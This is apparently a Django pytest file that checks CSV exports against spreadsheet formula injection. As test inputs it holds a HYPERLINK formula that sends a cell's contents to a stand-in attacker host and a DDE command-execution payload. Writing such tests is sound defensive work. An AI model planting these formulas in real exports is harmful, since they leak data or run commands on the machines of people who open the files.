"""Every CSV export is safe to open in a spreadsheet: no cell runs as a formula."""

import csv
import io

import pytest

from feedbackhub import csv_safe
from tests.factories import ThemeFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_neutralised(start):
    assert csv_safe.safe_cell(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", ["-12.50", "+3", "-4", 42, -1.5, "Single sign-on", ""])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert csv_safe.safe_cell(value) == value


def test_the_themes_export_does_not_carry_a_formula(pm_client):
    ThemeFactory(title=EVIL, note_count=3)
    response = pm_client.get("/themes/?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    titles = [row[1] for row in rows[1:]]
    assert titles == ["'" + EVIL]


def test_no_module_writes_csv_without_the_helper():
    from pathlib import Path

    from django.conf import settings

    offenders = []
    for area in ("accounts", "deals", "insights", "feedbackhub"):
        for path in (Path(settings.BASE_DIR) / area).rglob("*.py"):
            text = path.read_text()
            if "engine" in path.parts:
                continue  # the engine's command-line tool writes the developer's own file
            if path.name != "csv_safe.py" and ("csv.writer(" in text or "csv.DictWriter(" in text):
                offenders.append(str(path))
    assert offenders == []
